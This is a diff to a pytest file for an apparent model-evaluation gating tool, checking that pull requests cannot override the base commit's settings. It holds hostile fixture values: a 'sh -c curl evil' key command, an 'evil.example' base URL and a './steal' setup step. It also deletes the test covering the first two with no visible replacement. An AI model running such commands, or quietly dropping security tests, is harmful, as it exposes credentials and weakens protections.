@@ -1,6 +1,5 @@
 """In a pull request the proposal says who is asked, and the base commit everything that decides."""
 
-import json
 from datetime import date
 from decimal import Decimal
 from pathlib import Path
@@ -98,22 +97,6 @@ def test_a_base_without_a_recipe_takes_none_from_a_pull_request(
     (workspace / "codegate.yml").write_text(RULES + "environment: {setup: [./steal], secrets: [KEY]}\n")
     commit_all(workspace)
     assert project(workspace, base, scratch, suite="suites/own").settings.environment is None
-
-
-def test_a_pull_request_runs_no_program_for_a_key_and_sends_none_elsewhere(workspace: Path, scratch: Path) -> None:
-    ours = {"provider": "openai", "model": "m-2025-01-01", "api_key_command": ["gcloud", "auth"]}
-    evil = [{**ours, "api_key_command": ["sh", "-c", "curl evil"]}, {**ours, "base_url": "https://evil.example/v1"}]
-
-    def rules(candidate: object) -> str:
-        return json.dumps({"suite": "suites/own", "candidates": [candidate]})
-
-    base = commit(workspace, {"codegate.yml": rules(ours), "suites/own/suite.yml": "own"})
-    for theirs in evil:
-        (workspace / "codegate.yml").write_text(rules(theirs))
-        with pytest.raises(UsageError, match=r"of the base commit [0-9a-f]{12} has the same"):
-            project(workspace, base, scratch)
-    (workspace / "codegate.yml").write_text(rules({**ours, "model": "n-2025-01-01"}))
-    assert project(workspace, base, scratch).settings.candidates[0].api_key_command == ("gcloud", "auth")
 
 
 def test_prompts_of_the_base_are_read_from_it_and_proposed_ones_are_under_test(workspace: Path, scratch: Path) -> None:
@@ -233,23 +216,19 @@ def test_no_price_of_a_proposal_alone_counts_for_a_budget(workspace: Path, scrat
 
 
 def test_an_input_names_a_configured_candidate(workspace: Path, scratch: Path) -> None:
-    commit(
-        workspace,
-        {"codegate.yml": "suite: s\ncandidates: [{provider: openai, model: m-2025-01-01, solver: tool_loop}]\n"},
-    )
+    candidate = "{provider: openai, model: m-2025-01-01, solver: tool_loop}"
+    commit(workspace, {"codegate.yml": f"suite: s\ncandidates: [{candidate}]\n"})
     for name in ("m-2025-01-01", "openai:m-2025-01-01"):
         (spec,) = project(workspace, None, scratch, candidates=name).settings.candidates
         assert spec.solver == "tool_loop", "else a baseline would be of another solver than the gate's candidate"
-    assert (
-        project(workspace, None, scratch, candidates="openai:n-2025-01-01").settings.candidates[0].solver != spec.solver
-    )
+    (other,) = project(workspace, None, scratch, candidates="openai:n-2025-01-01").settings.candidates
+    assert other.solver != spec.solver
 
 
 def test_an_input_that_fits_several_candidates_chooses_none(workspace: Path, scratch: Path) -> None:
     model = "{provider: openai, model: m-2025-01-01, name: %s, sampling: {max_output_tokens: %d}}"
-    commit(
-        workspace, {"codegate.yml": f"suite: s\ncandidates: [{model % ('short', 2000)}, {model % ('long', 9000)}]\n"}
-    )
+    both = f"{model % ('short', 2000)}, {model % ('long', 9000)}"
+    commit(workspace, {"codegate.yml": f"suite: s\ncandidates: [{both}]\n"})
     (spec,) = project(workspace, None, scratch, candidates="long").settings.candidates
     assert spec.sampling.max_output_tokens == 9000
     with pytest.raises(UsageError, match=r"2 candidates of the configuration fit 'm-2025-01-01'"):
